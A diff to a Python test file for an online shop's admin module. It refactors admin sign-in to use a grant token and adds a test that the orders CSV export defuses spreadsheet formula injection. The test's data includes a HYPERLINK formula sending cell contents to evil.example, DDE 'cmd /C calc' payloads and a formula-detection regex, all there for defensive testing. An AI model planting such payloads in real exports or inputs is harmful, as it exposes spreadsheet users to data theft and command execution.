@@ -4,13 +4,14 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from datetime import datetime, timedelta
 
 import pytest
 import sqlalchemy as sa
 
 from rxshop.admin.actions import ActionRefused, mark_shipped, resolve_exception
-from rxshop.admin.auth import sign_in
+from rxshop.admin.auth import redeem_grant, sign_in
 from rxshop.admin.export import CSV_COLUMNS, orders_csv
 from rxshop.admin.reports import DayRevenue, ProductTotal, exceptions, product_totals, revenue, summary
 from rxshop.core.models import Order, utcnow
@@ -23,12 +24,18 @@ from tests.fixtures.shop import ADMIN_PASSWORD, new_visitor
 DAY1 = (utcnow() - timedelta(days=10)).replace(hour=10, minute=0, second=0, microsecond=0)
 
 
+def _signed_in(session, visitor: str, now: datetime | None = None) -> str:
+    """The owner's admin token, as the dashboard gets it: the password, then the grant traded once."""
+    done = sign_in(
+        session=session, visitor_id=visitor, client_ip="192.0.2.1", password=ADMIN_PASSWORD, now=now
+    )
+    return redeem_grant(session=session, grant=done.grant, visitor_id=visitor, now=now)
+
+
 @pytest.fixture
 def admin(session, app_env) -> str:
     app_env(ADMIN_PASSWORD=ADMIN_PASSWORD)
-    visitor = new_visitor()
-    sign_in(session=session, visitor_id=visitor, client_key="test", password=ADMIN_PASSWORD)
-    return visitor
+    return _signed_in(session, new_visitor())
 
 
 def _paid(session, quantities, paid_at: datetime, **changes):
@@ -138,5 +145,37 @@ def test_exceptions_inbox_unprocessable_overdue_and_resolution(session, admin, k
     counts = summary(session=session, admin=admin, now=now)
     assert (counts.open_exception_count, counts.to_ship) == (1, 2)
     later = now + timedelta(days=3)  # C becomes overdue too (and the owner, idle for 3 days, signs in again)
-    sign_in(session=session, visitor_id=admin, client_key="test", password=ADMIN_PASSWORD, now=later)
-    assert {e.reference for e in exceptions(session=session, admin=admin, now=later)} == {"evt_bad", c.id}
+    again = _signed_in(session, new_visitor(), now=later)
+    assert {e.reference for e in exceptions(session=session, admin=again, now=later)} == {"evt_bad", c.id}
+
+
+def test_csv_quotes_every_cell_and_no_part_of_one_can_run_as_a_formula(session, admin, known) -> None:
+    """What a buyer typed, read the way a spreadsheet might: quote-aware with `,`, or split on `;` (a
+    semicolon locale), where what follows each `;` starts a cell of its own."""
+    a, b, _c = known
+    hostile = {
+        "ship_name": 'Bob;=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "ship_line1": "1 Main St; +1+cmd|' /C calc'!A0",
+        "ship_city": ';@SUM(1+1)*cmd|" /C calc"!A0',
+        "ship_state": 'x; "=1+1"',
+        "ship_line2": "Flat 2;\t=2+3",
+        "phone": "+1 555 0100",
+    }
+    session.exec(sa.update(Order).where(Order.id == a.id).values(**hostile))
+    session.commit()
+    text = orders_csv(session=session, admin=admin)
+
+    lines = text.split("\r\n")
+    assert all(line.startswith('"') and line.endswith('"') for line in lines if line)  # QUOTE_ALL
+    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["order_id"] == a.id)
+    assert row["ship_name"] == 'Bob;\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert row["ship_line1"] == "1 Main St;' +1+cmd|' /C calc'!A0"
+    assert row["ship_city"] == ';\'@SUM(1+1)*cmd|" /C calc"!A0'  # a cell starting with `;`
+    assert row["ship_state"] == 'x;\' "=1+1"'
+    assert row["ship_line2"] == "Flat 2;'\t=2+3"
+    assert row["phone"] == "'+1 555 0100"
+    assert row["items"] == "2 x Morning Mug; 1 x Canvas Tote"  # a `;` before plain text stays as it was
+    formula = re.compile(r'^[\s"]*[=+\-@]|^[\t\r]')
+    for line in lines:  # every piece a `;`-splitting spreadsheet would see starts harmlessly
+        for piece in line.split(";"):
+            assert not formula.match(piece), piece
